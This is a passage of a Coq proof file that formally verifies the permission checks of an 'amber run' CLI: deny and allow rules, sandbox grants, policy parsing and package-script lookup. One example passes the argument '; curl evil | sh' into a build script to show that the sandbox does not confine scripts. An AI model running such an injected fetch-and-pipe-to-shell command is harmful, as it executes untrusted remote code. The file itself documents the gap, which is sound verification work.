  assert ({| kind := k; action := a; resource := Any |} ∈ deny_rules b) as Hany
    by (by apply (conf_deny _ _ _ _ HC)).
  rewrite (bool_decide_eq_true_2 _ Hany).
  case_bool_decide as E1.
  { split; [done|]. apply (conf_deny _ _ _ _ HC) in E1 as [E1 _].
    destruct r; try discriminate E1. intros (g & Hg & Hc). by destruct g. }
  case_bool_decide as E2.
  { split; [|done]. intros _. apply (conf_allow _ _ _ _ HC) in E2 as (g & Hg & Hn).
    exists g. split; [done|]. apply covers_exact; [|done]. intros ->. by apply (conf_any _ _ _ _ HC k a). }
  destruct (is_network_url k a (normalize_resource h r)) eqn:Enet;
    [destruct (network_host_rule url_host k a (normalize_resource h r)) as [rule|] eqn:Erule|].
  - apply host_rule_name in Erule as (u & n & Hu & Hn & ->). destruct r as [| | |u']; try discriminate Hu.
    injection Hu as ->. rewrite (bool_decide_eq_false_2 (_ ∈ deny_rules _)) by (by apply conf_deny_named).
    case_bool_decide as E3.
    + split; [|done]. intros _. apply (conf_allow _ _ _ _ HC) in E3 as (g & Hg & Hn').
      exists g. split; [done|]. destruct g; try discriminate Hn'. injection Hn' as ->. done.
    + apply (conf_tail k a (Url u)); [done|done|]. intros u1 n1 [= <-] _ Hn1 Hg. simplify_eq.
      apply E3, (conf_allow _ _ _ _ HC). by exists (Name n).
  - apply conf_tail; [done|done|]. intros u n -> _ Hn. simpl in Erule. by rewrite Hn in Erule.
  - apply conf_tail; [done|done|]. intros u n -> Hnet. simpl in Enet. congruence.
Qed.

(** What a check answers, in terms of [D] and [G]. *)
Lemma configured_check now k a r :
  (check_global_permission h url_host now st k a r).2 = Ok tt ↔
  D k a = false ∨ ∃ g, g ∈ G k a ∧ covers h url_host k a g r.
Proof using HC.
  unfold check_global_permission. destruct (has_restrictions st) eqn:Hr; simpl.
  - unfold check_result, check. simpl. destruct (D k a) eqn:HD.
    + rewrite <-conf_closed by done. destruct (decide _ _ _ _ _); naive_solver.
    + rewrite conf_open by done. naive_solver.
  - split; [|done]. intros _. left. apply not_true_iff_false. intros HD.
    apply not_true_iff_false in Hr. apply Hr, (conf_flag _ _ _ _ HC). eauto.
Qed.
End decisions.

(** ** Properties *)

(** What [amber run] grants on top of the flags. *)
Definition entry_grant (o : PermissionCliOptions) (file : rstr) (k : PermissionKind) (a : PermissionAction) :
    list ResourceId :=
  match k, a with
  | FileSystem, Read => if sandbox o then [Path (components file)] else []
  | _, _ => []
  end.
Lemma run_command_entry h o file args s s' :
  run_command h o file args s = (s', Ok None) →
  configured (files h) (perm s') (denied h o) (λ k a, granted h o k a ++ entry_grant o file k a).
Proof.
  unfold run_command. case_match.
  { intros (s1 & shell & _ & [=])%C_bind_ok. }
  intros (s1 & [] & H1%apply_configured & H2)%C_bind_ok. apply C_bind_ok in H2 as (s2 & [] & H2 & [= <-]).
  unfold allow_sandbox_entry_file, entry_grant in *. destruct (sandbox o).
  - injection H2 as <-. cbn [perm]. eapply configured_ext; [done| |].
    2:{ apply (allow_each_configured h FileSystem Read [Path (components file)]);
          [by intros ?%list_elem_of_singleton|exact H1]. }
    by intros [] [].
  - injection H2 as <-. eapply configured_ext, H1; [done|]. intros [] []; by rewrite app_nil_r.
Qed.

(** C15. The flags, the policy file and the entry file come to exactly this: once
    [amber run] has started an entry, a request of any kind passes if and only
    if neither [--sandbox] nor a [--deny] flag nor the policy denies its
    kind, or a grant covers it: a path from a flag or the policy with all
    below it, a host with every address on it, a name or an
    address as written, and in the sandbox the entry file for reading.  The
    order of flags and rules plays no role, and a grant without a denial of its
    kind has no effect. *)
Theorem flags_decide h url_host now o file args s s' k a r :
  run_command h o file args s = (s', Ok None) →
  (check_global_permission (files h) url_host now (perm s') k a r).2 = Ok tt ↔
  denied h o k a = false ∨
  ∃ g, g ∈ granted h o k a ++ entry_grant o file k a ∧ covers (files h) url_host k a g r.
Proof. intros H%run_command_entry. exact (configured_check _ _ _ _ _ H now k a r). Qed.

Lemma rules_of_err h o s s' e :
  rules_of h o s = (s', Err e) → allow_rules (broker (perm s)) = ∅ → allow_rules (broker (perm s')) = ∅.
Proof.
  intros H Hs. unfold rules_of in H. apply C_bind_err in H as [H|(s1 & [] & H1 & H)].
  { by destruct (sandbox o). }
  assert (allow_rules (broker (perm s1)) = ∅) as Hs1.
  { destruct (sandbox o); injection H1 as <-; [|done]. simpl. rewrite Hs. set_solver. }
  apply C_bind_err in H as [H|(s2 & [] & H2 & H)].
  - destruct (policy o) as [p|]; [|done]. unfold apply_permission_policy_file in H.
    apply C_bind_err in H as [H|(s2 & text & H1' & H)]; [by injection H as <- _|].
    injection H1' as <- _. apply C_bind_err in H as [H|(s2 & rules & H2 & H)]; [by injection H as <- _|done].
  - apply C_bind_err in H as [H|(s3 & [] & H3 & H)]; done.
Qed.
(** A set-up that fails (an audit log or a policy file that cannot be opened, a
    time or an import map that does not parse) grants nothing: the rules of an
    earlier configuration are gone and no allowance of the new one is in force. *)
Theorem failed_setup_grants_nothing h o s s' e :
  apply_permission_cli_options h o s = (s', Err e) → allow_rules (broker (perm s')) = ∅.
Proof.
  rewrite apply_parts. intros [H|(s1 & [] & H1 & H)]%C_bind_err.
  - apply surroundings_quiet in H as [-> _]. done.
  - eapply rules_of_err; [exact H|]. apply surroundings_quiet in H1 as [-> _]. done.
Qed.

(** ** Package scripts *)

(** A script of the nearest manifest is started whatever the flags say, and
    before they take effect. *)
Lemma scripts_ignore_flags h o o' file args s :
  host_exists (files h) (components file) = false →
  (∃ p scripts, find_package_json h (components ".") = Some p ∧ load_scripts h p = Ok scripts ∧
     is_Some (scripts !! file)) →
  run_command h o file args s = run_command h o' file args s ∧
  ∃ dir cmd, run_command h o file args s = (s, Ok (Some (dir, cmd))).
Proof.
  intros Hf (p & scripts & Hp & Hl & [cmd Hs]). unfold run_command. rewrite Hf, Hp. cbn [mbind option_bind].
  rewrite Hl, bool_decide_eq_true_2 by done. split; [done|].
  unfold run_script. rewrite Hp. unfold mbind, C_bind, result_bind, pure_result. rewrite Hl, Hs. eauto.
Qed.

(** The manifest of the first [k] names below the root. *)
Definition manifest_at (l : list rstr) (k : nat) : path :=
  (RootDir :: (Normal <$> take k l)) ++ [Normal ("package.json" : rstr)].
Lemma parent_below_root l n : parent (RootDir :: (Normal <$> l ++ [n])) = Some (RootDir :: (Normal <$> l)).
Proof.
  unfold parent. rewrite fmap_app, app_comm_cons. change (Normal <$> [n]) with [Normal n]. rewrite last_snoc. f_equal. rewrite length_app.
  rewrite take_app_le by (simpl; lia). apply take_ge. simpl. lia.
Qed.
Lemma find_upward_nearest h l fuel :
  length l ≤ fuel →
  match find_upward h fuel (RootDir :: (Normal <$> l)) with
  | Some p => ∃ k, k ≤ length l ∧ p = manifest_at l k ∧ host_is_file (files h) p = true ∧
      ∀ j, k < j ≤ length l → host_is_file (files h) (manifest_at l j) = false
  | None => ∀ j, j ≤ length l → host_is_file (files h) (manifest_at l j) = false
  end.
Proof.
  revert fuel. induction l as [|n l IH] using rev_ind; intros fuel Hf.
  - destruct fuel; cbn [find_upward]; fold (manifest_at [] 0);
      (destruct (host_is_file (files h) _) eqn:E;
       [exists 0; split_and!; [done..|simpl; lia]|intros [|j] Hj; [done|simpl in Hj; lia]]).
  - rewrite length_app in *. simpl in Hf. destruct fuel as [|fuel]; [lia|]. cbn [find_upward].
    change (path_join _ _) with ((RootDir :: (Normal <$> l ++ [n])) ++ [Normal ("package.json" : rstr)]).
    assert (∀ j, length l < j → manifest_at (l ++ [n]) j =
      (RootDir :: (Normal <$> l ++ [n])) ++ [Normal ("package.json" : rstr)]) as Hlast.
    { intros j Hj. unfold manifest_at. by rewrite take_ge by (rewrite length_app; simpl; lia). }
    assert (∀ j, j ≤ length l → manifest_at (l ++ [n]) j = manifest_at l j) as Hin.
    { intros j Hj. unfold manifest_at. by rewrite take_app_le by lia. }
    destruct (host_is_file (files h) _) eqn:E.
    + exists (S (length l)). rewrite Hlast by lia. simpl. split_and!; [lia|done|done|lia].
    + unfold pop. rewrite parent_below_root. specialize (IH fuel ltac:(lia)).
      destruct (find_upward _ _ _) as [p|].
      * destruct IH as (k & Hk & -> & Hfile & Hnear). exists k. rewrite Hin by lia.
        simpl. split_and!; [lia|done|done|]. intros j Hj.
        destruct (Nat.le_gt_cases j (length l)); [rewrite Hin by lia; apply Hnear; lia|rewrite Hlast by lia; done].
      * intros j Hj. destruct (Nat.le_gt_cases j (length l)); [rewrite Hin by lia; by apply IH|rewrite Hlast by lia; done].
Qed.
(** From a directory given by an absolute path the nearest manifest is found,
    in the directory itself or above it, if there is one. *)
Theorem nearest_manifest h l :
  host_is_file (files h) (RootDir :: (Normal <$> l)) = false →
  match find_package_json h (RootDir :: (Normal <$> l)) with
  | Some p => ∃ k, k ≤ length l ∧ p = manifest_at l k ∧ host_is_file (files h) p = true ∧
      ∀ j, k < j ≤ length l → host_is_file (files h) (manifest_at l j) = false
  | None => ∀ j, j ≤ length l → host_is_file (files h) (manifest_at l j) = false
  end.
Proof.
  intros H. unfold find_package_json. rewrite H. apply find_upward_nearest. simpl. rewrite length_fmap. lia.
Qed.
(** From [.], where [amber run] starts it, it never leaves the current directory. *)
Lemma search_from_dot_stays h p :
  find_package_json h (components ".") = Some p →
  p = components "./package.json" ∨ p = components "package.json".
Proof.
  unfold find_package_json. change (components ".") with [CurDir].
  destruct (host_is_file (files h) [CurDir]); cbn [mbind option_bind parent last take length Nat.sub find_upward pop];
    repeat case_match; intros [= <-]; [by right|by left|by right].
Qed.

(** ** Examples *)

(** A machine with the given files, and nothing else. *)
Definition cli_host (contents : list (rstr * rstr)) (json : rstr → option Json) : CliHost := {|
  files := {| current_dir := None; canonicalize := λ _, None;
              host_metadata := λ p, if existsb (λ kv, bool_decide (components kv.1 = p)) contents
                                    then Some {| m_is_file := true; m_is_dir := false; m_len := 0 |} else None;
              host_read := λ _, Err (NotFound, [] : rstr); host_list_dir := λ _, None |};
  mkdirs := λ _, Ok tt; opens := λ _, Ok tt; rfc3339 := λ _, None; datetime := λ _, None; date := λ _, None;
  read_to_string := λ p, match filter (λ kv, components kv.1 = p) contents with
                         | kv :: _ => Ok kv.2 | [] => Err ("not found" : rstr) end;
  from_str := json; read_map := λ _, Err ("not found" : rstr); parse_map := λ _, Err ("not found" : rstr) |}.
Definition cli_init : CliState := {| perm := perm_init; vfs := VirtualFs.vfs_init; import_map := None |}.
Definition sandboxed : PermissionCliOptions := {|
  policy := Some (components "p/policy.json");
  deny_fs := false; deny_net := false; deny_env := false; deny_run := false;
  sandbox := true; audit_log := None; allow_read := []; allow_write := []; allow_net := [("a.com" : rstr)];
  allow_listen := []; allow_env := []; allow_run := []; seed := None; freeze_time := None;
  import_map_path := None; virtual_fs := false; virtual_fs_strict := false |}.

(** A member that is there twice is an error, and an array has the fields in order. *)
Example policy_shapes :
  policy_of_json (JObject [("permissions" : rstr, JObject []); ("permissions" : rstr, JObject [("deny_fs" : rstr, JBool true)])]) = None ∧
  rule_deny_net <$> policy_of_json (JArray [JArray [JBool false; JBool true]]) = Some true.
Proof. vm_compute. done. Qed.
(** A policy's rules belong under [permissions]; a file that puts them at the top
    is accepted and restricts nothing. *)
Example misplaced_rules_ignored :
  policy_of_json (JObject [("deny_fs" : rstr, JBool true); ("deny_net" : rstr, JBool true)])
    = Some default_rules ∧
  rule_deny_fs <$> policy_of_json (JObject [("permissions" : rstr, JObject [("deny_fs" : rstr, JBool true)])])
    = Some true.
Proof. vm_compute. done. Qed.

Module CliToy.
Definition json (text : rstr) : option Json :=
  if bool_decide (text = "{policy}") then Some (JObject [("permissions" : rstr,
    JObject [("allow_read" : rstr, JArray [JString "data"])])])
  else if bool_decide (text = "{package}") then Some (JObject [("scripts" : rstr,
    JObject [("build" : rstr, JString "rm -rf dist")])])
  else None.
Definition machine : CliHost := cli_host [("p/policy.json" : rstr, "{policy}" : rstr);
  ("main.js" : rstr, "" : rstr); ("./package.json" : rstr, "{package}" : rstr)] json.
Definition started : CliState := (run_command machine sandboxed "main.js" [] cli_init).1.
End CliToy.
(** [amber run --sandbox build] runs the script's command in a shell, with the
    arguments as they are. *)
Example sandbox_does_not_reach_scripts :
  run_command CliToy.machine sandboxed "build" ["; curl evil | sh" : rstr] cli_init
  = (cli_init, Ok (Some (components ".", "rm -rf dist ; curl evil | sh" : rstr))).
Proof. vm_compute. reflexivity. Qed.

Lemma flags_decide_witness :
  (check_global_permission (files CliToy.machine) (λ _, Some ("a.com" : rstr)) [] (perm CliToy.started)
     FileSystem Read (Path (components "p/data/x"))).2 = Ok tt ∧
  (check_global_permission (files CliToy.machine) (λ _, Some ("a.com" : rstr)) [] (perm CliToy.started)
     Network Connect (Url "https://a.com/")).2 = Ok tt ∧
  (check_global_permission (files CliToy.machine) (λ _, Some ("a.com" : rstr)) [] (perm CliToy.started)
     FileSystem Write (Path (components "p/data/x"))).2 ≠ Ok tt.
Proof.
  assert ((run_command CliToy.machine sandboxed "main.js" [] cli_init).2 = Ok None) as H2
    by (vm_compute; reflexivity).
  assert (run_command CliToy.machine sandboxed "main.js" [] cli_init = (CliToy.started, Ok None)) as H
    by (rewrite <-H2; apply surjective_pairing).
  split; [|split].
  - apply (flags_decide _ _ _ _ _ _ _ _ _ _ _ H). right. exists (Path (components "p/data")).
    split; [vm_compute; left|]. exists [Normal "x"]. reflexivity.
  - apply (flags_decide _ _ _ _ _ _ _ _ _ _ _ H). right. exists (Name "a.com").
    split; [vm_compute; left|]. split; reflexivity.
  - intros Hc. apply (flags_decide _ _ _ _ _ _ _ _ _ _ _ H) in Hc as [[=]|(g & Hg & _)].
    vm_compute in Hg. inversion Hg.
Defined.

Lemma failed_setup_grants_nothing_witness :
  let bad := {| policy := Some (components "none.json"); deny_fs := false; deny_net := false; deny_env := false;
    deny_run := false; sandbox := true; audit_log := None; allow_read := [components "."]; allow_write := [];
    allow_net := []; allow_listen := []; allow_env := []; allow_run := []; seed := None; freeze_time := None;
    import_map_path := None; virtual_fs := false; virtual_fs_strict := false |} in
  allow_rules (broker (perm (apply_permission_cli_options CliToy.machine bad cli_init).1)) = ∅.
Proof.
  intros bad. destruct (apply_permission_cli_options CliToy.machine bad cli_init) as [s [u|e]] eqn:E.
  - exfalso. apply (f_equal snd) in E. vm_compute in E. discriminate E.
  - exact (failed_setup_grants_nothing CliToy.machine bad cli_init s e E).
Defined.
